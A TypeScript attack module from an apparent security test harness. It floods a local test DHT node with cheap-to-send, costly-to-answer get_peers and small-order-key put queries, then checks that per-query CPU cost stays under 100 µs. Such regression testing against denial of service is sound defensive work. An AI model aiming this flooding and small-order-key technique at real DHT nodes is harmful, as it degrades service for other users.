/**
 * Queries that are cheap to send and dear to answer: `get_peers` of a hash for which thousands of peers were announced, and `put` with a
 * key of small order, whose signature needs slow arithmetic.
 */
import { randomBytes } from "node:crypto"
import { Effect, Schedule } from "effect"
import { type Address, addressOf, findString, Speaker } from "../attacker/krpc.ts"
import { type Attack, AttackFailed, atMost } from "../harness/Attack.ts"
import { startMember, startTestnet } from "../harness/members.ts"
import { startVictim } from "../harness/Victim.ts"
import { processorShare } from "./frameCost.ts"

/** Hosts of the attacker. The victim serves each only so many queries a second. */
const HOSTS = 40
const QUERIES_PER_SECOND = 2_000
const TICK_MS = 20

/** The neutral point of the curve: a key of small order (RFC 8032, section 5.1.4). */
const SMALL_ORDER = Buffer.concat([Buffer.of(1), Buffer.alloc(31)])

const tokenFrom = (speaker: Speaker, node: Address, hash: Buffer) =>
  Effect.map(
    Effect.promise(() => speaker.ask(node, "get_peers", { info_hash: hash }, 3_000)),
    (answer) => (answer === undefined ? undefined : findString(answer, "token")),
  )

/** Calls `send` with each speaker in turn, so often in a second, until interrupted. */
const atRate = (speakers: ReadonlyArray<Speaker>, perSecond: number, send: (speaker: Speaker) => void) => {
  let next = 0
  let due = 0
  return Effect.sync(() => {
    for (due += (perSecond * TICK_MS) / 1_000; due >= 1; due--) send(speakers[next++ % speakers.length]!)
  }).pipe(Effect.repeat(Schedule.fixed(TICK_MS)))
}

export const dhtCost: Attack = {
  name: "dht-cost",
  about: "2,000 dear queries a second at the DHT client",
  run: Effect.fnUntraced(function* (scale) {
    const bootstrap = yield* startTestnet()
    const member = yield* startMember(yield* startVictim(), { bootstrap })
    const node = addressOf(member.dht)
    const speakers = yield* Effect.forEach(Array.from({ length: HOSTS }).keys(), (i) => Speaker.make(`127.4.${i}.1`))
    yield* Effect.sleep(1_000)
    const idle = yield* processorShare(member, scale.pick(3_000, 1_500))
    const received = Effect.map(member.victim.call("counters", member.node), ({ dht }) => dht.packetsReceived ?? 0)
    const hash = randomBytes(20)
    const tokens = new Map<Speaker, Buffer>()
    for (const speaker of speakers) {
      const token = yield* tokenFrom(speaker, node, hash)
      if (token !== undefined) tokens.set(speaker, token)
    }
    const able = [...tokens.keys()]
    if (able.length === 0) return yield* new AttackFailed({ message: "the DHT client answers no get_peers" })
    // Announced within the limits, so that the peers are taken.
    let port = 1
    const announcing = atRate(able, Math.min(QUERIES_PER_SECOND * 0.9, able.length * 45), (speaker) =>
      speaker.query(node, "announce_peer", {
        info_hash: hash,
        port: (port++ % 65_000) + 1,
        token: tokens.get(speaker),
      }),
    )
    yield* Effect.timeoutOption(announcing, scale.pick(12_000, 3_000))
    yield* Effect.sleep(1_000)

    const share = Effect.fnUntraced(function* (send: (speaker: Speaker) => void) {
      const fiber = yield* Effect.forkScoped(atRate(able, QUERIES_PER_SECOND, send))
      yield* Effect.sleep(500)
      const forMs = scale.pick(6_000, 2_500)
      const before = yield* received
      const cost = (yield* processorShare(member, forMs)) - idle
      const queries = (yield* received) - before
      yield* Effect.sync(() => fiber.interruptUnsafe())
      yield* Effect.sleep(300)
      // % of a core as µs for each query that arrived: on a busy machine fewer are sent.
      return queries === 0 ? undefined : (cost / 100) * (forMs / queries) * 1e3
    })
    const getPeers = yield* share((speaker) => speaker.query(node, "get_peers", { info_hash: hash }))
    const put = yield* share((speaker) =>
      speaker.query(node, "put", {
        k: SMALL_ORDER,
        sig: Buffer.concat([SMALL_ORDER, Buffer.alloc(32)]),
        seq: 1,
        v: randomBytes(100),
        salt: randomBytes(8),
        token: tokens.get(speaker),
      }),
    )
    return [atMost("get_peers", getPeers, "µs", 100), atMost("small-order put", put, "µs", 100)]
  }),
}
